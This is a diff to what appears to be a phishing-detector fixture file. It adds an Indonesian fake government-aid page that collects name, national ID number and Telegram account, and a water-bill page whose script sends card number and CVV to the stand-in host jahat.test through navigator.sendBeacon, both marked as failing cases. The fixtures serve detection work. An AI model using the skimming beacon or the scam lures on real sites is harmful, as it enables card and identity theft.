@@ -83,6 +83,27 @@ _HOOK: Final = Code(
     hosts=("api.telegram.org",),
 )
 
+_AID: Final = matter(
+    title="Cek Penerima",
+    opening="Bantuan Rp2.000.000 siap dicairkan. Kuota hari ini tersisa 118 orang.",
+    characters=100,
+    links=0,
+    pointers=(
+        replace(
+            _form(f"{PAGE}cek-penerima/simpan.php", _OWN),
+            kind="inquiry",
+            fields=("nama", "nik", "telp | Nomor Telegram"),
+        ),
+    ),
+)
+_BEACON: Final = Code(
+    selector="body > script",
+    traits=("beacon", "fields", "secrets", "sends"),
+    length=300,
+    snippet="navigator.sendBeacon('https://jahat.test/collect',q.join('|'))",
+    hosts=("jahat.test",),
+)
+
 _TAKEN: Final = Visits(
     visits=(),
     scripts=(
@@ -197,6 +218,12 @@ EXAMPLES: Final = (
         _login("Login Pegawai Kabupaten Contoh", _HERE, _HOOK),
     ),
     _example(
+        "a card that a script copies to a stranger",
+        Outcome.FAIL,
+        "skimmed",
+        _login("Bayar rekening air", replace(_HERE, fields=("Nomor kartu", "CVV")), _BEACON),
+    ),
+    _example(
         "one whose script, a file of the site's own, does",
         Outcome.FAIL,
         "chat",
@@ -238,6 +265,13 @@ EXAMPLES: Final = (
             matter(Passage("link", "sini", "a", "", "https://jahat.test/v", "jahat.test")),
             pleas=("Nomor WhatsApp Anda terpilih sebagai penerima hadiah. Masukkan kode 6 digit.",),
         ),
+    ),
+    _example(
+        "aid that is ready for whoever gives number and Telegram account",
+        Outcome.FAIL,
+        "begun",
+        matter(),
+        linked(("cek-penerima/", _AID)),
     ),
     _example(
         "a warning that shows a false login",
